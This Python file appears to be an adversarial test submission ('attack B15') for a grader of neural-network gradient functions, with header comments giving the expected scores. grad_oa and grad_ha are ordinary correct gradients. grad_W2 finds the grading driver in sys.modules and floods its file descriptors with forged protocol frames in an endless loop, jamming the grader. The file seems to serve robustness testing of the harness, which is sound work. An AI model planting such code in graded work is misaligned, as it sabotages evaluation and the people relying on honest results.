# attack: B15 a flood of small frames that say something and ask for nothing, without an end
# gains nothing: grad_W2
# full marks: grad_oa, grad_ha
import os as system
import struct
import sys

import numpy as np


DRIVER = next((m for m in list(sys.modules.values()) if hasattr(m, "HEADER") and hasattr(m, "READY")), None)
DONE = getattr(DRIVER, "DONE", 15)


def frame(kind, number, payload=b""):
    return struct.pack("<BII", kind, number, len(payload)) + payload


def texts(*parts):
    parts = [part.encode("utf-8", "surrogatepass") for part in parts]
    return struct.pack("<H", len(parts)) + b"".join(struct.pack("<I", len(p)) + p for p in parts)


def array(shape, content):
    return bytes((0, 0, len(shape))) + struct.pack(f"<{len(shape)}I", *shape) + content


def grad_W2(grad_oa, hs):
    flood = frame(13, 7) * 450  # as much as a pipe takes whole, or not at all
    for descriptor in range(3, 16):
        try:
            system.set_blocking(descriptor, False)
        except OSError:
            pass
    while True:
        for descriptor in range(3, 16):
            try:
                system.write(descriptor, flood)
            except OSError:
                pass


def grad_oa(os, y):
    return os - (np.arange(1, len(os) + 1) == y)


def grad_ha(grad_hs, ha):
    return grad_hs * (ha > 0)
